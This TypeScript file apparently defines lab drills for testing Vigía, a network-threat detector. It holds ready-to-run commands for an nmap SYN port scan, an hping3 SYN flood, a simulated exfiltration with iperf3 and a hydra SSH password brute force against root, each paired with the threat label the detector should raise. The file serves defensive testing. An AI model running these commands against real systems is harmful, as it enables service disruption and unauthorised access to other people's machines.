/** The attacks of the drills, as data: the real tool, from which side, and what Vigía must call it. */
import type { ThreatType } from '../../contract/threats.ts';
import { DrillError } from './drill-error.ts';
import { ATTACKERS, type Side, VICTIM } from './lab.ts';

export interface Attack {
  readonly name: string;
  readonly what: string;
  readonly expected: ThreatType;
  /** The address that the webhook must name. */
  readonly attacker: string;
  /** The side that the command runs on: exfiltration leaves from the victim. */
  readonly side: Side;
  readonly command: readonly [string, ...string[]];
  /** A server that the victim runs for it. */
  readonly server?: 'sshd';
}

const [FIRST] = ATTACKERS;
/** Where the attacker takes in what is carried off. */
export const DROP_PORT = 5999;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'port-scan',
    what: 'nmap asks 1,024 ports which of them are open',
    expected: 'port_scan',
    attacker: FIRST,
    side: 'attacker',
    command: [
      'nmap',
      '-sS',
      '-Pn',
      '-n',
      '-p1-1024',
      '--min-rate',
      '500',
      '--max-rate',
      '500',
      '-S',
      FIRST,
      '-e',
      'vg-attacker',
      VICTIM,
    ],
  },
  {
    name: 'syn-flood',
    what: 'hping3 opens 2,500 connections a second and finishes none',
    expected: 'syn_flood',
    attacker: FIRST,
    side: 'attacker',
    command: ['hping3', '-q', '-S', '-p', '80', '-i', 'u400', '-c', '15000', '-a', FIRST, VICTIM],
  },
  {
    name: 'exfiltration',
    what: 'the victim sends 60 MB a second to the attacker',
    expected: 'data_exfiltration',
    attacker: FIRST,
    side: 'victim',
    command: ['iperf3', '-c', FIRST, '-p', String(DROP_PORT), '-b', '480M', '-t', '6'],
  },
  {
    name: 'brute-force',
    what: "hydra guesses root's password by ssh, four guesses at once",
    expected: 'brute_force_attack',
    attacker: FIRST,
    side: 'attacker',
    command: ['hydra', '-I', '-l', 'root', '-x', '6:6:1', '-t', '4', `ssh://${VICTIM}`],
    server: 'sshd',
  },
];

/** Drills that the design names and this release does not hold yet. */
const LATER = ['qos'];

/** @throws DrillError for a name that is no drill */
export function attackNamed(name: string): Attack {
  const attack = ATTACKS.find((candidate) => candidate.name === name);
  if (attack) return attack;
  const names = ATTACKS.map((candidate) => candidate.name).join(', ');
  const what = LATER.includes(name) ? `the drill ${name} is not in this release yet` : `there is no drill ${name}`;
  throw new DrillError(what, `There are: ${names}`);
}
